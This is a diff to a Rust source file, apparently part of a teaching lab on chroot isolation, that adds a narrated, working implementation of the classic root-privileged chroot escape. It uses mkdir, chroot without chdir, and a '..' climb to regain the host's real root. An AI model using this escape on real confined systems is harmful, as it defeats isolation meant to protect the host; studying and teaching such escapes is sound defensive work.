@@ -8,7 +8,9 @@
 
 use crate::error::LabError;
 use crate::narrator::{Narrator, Step};
-use nix::unistd::{chdir, chroot};
+use nix::errno::Errno;
+use nix::sys::stat::{Mode, stat};
+use nix::unistd::{chdir, chroot, mkdir};
 use std::path::Path;
 
 // ANCHOR: enter_root
@@ -37,3 +39,41 @@ pub fn enter_root(narrator: &Narrator, rootfs: &Path) -> Result<(), LabError> {
     )
 }
 // ANCHOR_END: enter_root
+
+// ANCHOR: breakout
+/// The classic escape from chroot(2), as root: leave the current root and
+/// make the real `/` the root again, or say which step the kernel refused.
+/// `say` narrates each step (lab-breakout prints it; the probe stays quiet).
+pub fn break_out(say: impl Fn(&str)) -> Result<(), (&'static str, Errno)> {
+    const TRAPDOOR: &str = ".lab-breakout";
+    // 1. A directory inside our root to chroot into.
+    match mkdir(TRAPDOOR, Mode::from_bits_truncate(0o700)) {
+        Ok(()) | Err(Errno::EEXIST) => {}
+        Err(errno) => return Err(("mkdir", errno)),
+    }
+    say("mkdir(\".lab-breakout\")");
+    // 2. chroot into it *without* chdir: our working directory is now
+    //    outside our root, where the kernel's `..` check never looks.
+    chroot(TRAPDOOR).map_err(|e| ("chroot(\".lab-breakout\")", e))?;
+    say("chroot(\".lab-breakout\"), no chdir: the working directory is now outside the root");
+    // The trapdoor is our root now but still a name in the old tree:
+    // remove it so we leave nothing behind.
+    let _ = std::fs::remove_dir(TRAPDOOR);
+    // 3. Climb: `..` of the real `/` is `/` itself, so stop when `.` and
+    //    `..` are the same directory.
+    loop {
+        let here = stat(".").map_err(|e| ("stat(\".\")", e))?;
+        let parent = stat("..").map_err(|e| ("stat(\"..\")", e))?;
+        if (here.st_dev, here.st_ino) == (parent.st_dev, parent.st_ino) {
+            break;
+        }
+        chdir("..").map_err(|e| ("chdir(\"..\")", e))?;
+    }
+    say("chdir(\"..\") until \".\" is its own parent: that is the host's /");
+    // 4. Make the real `/` our root again.
+    chroot(".").map_err(|e| ("chroot(\".\")", e))?;
+    chdir("/").map_err(|e| ("chdir(\"/\")", e))?;
+    say("chroot(\".\"): the host's / is our root again");
+    Ok(())
+}
+// ANCHOR_END: breakout
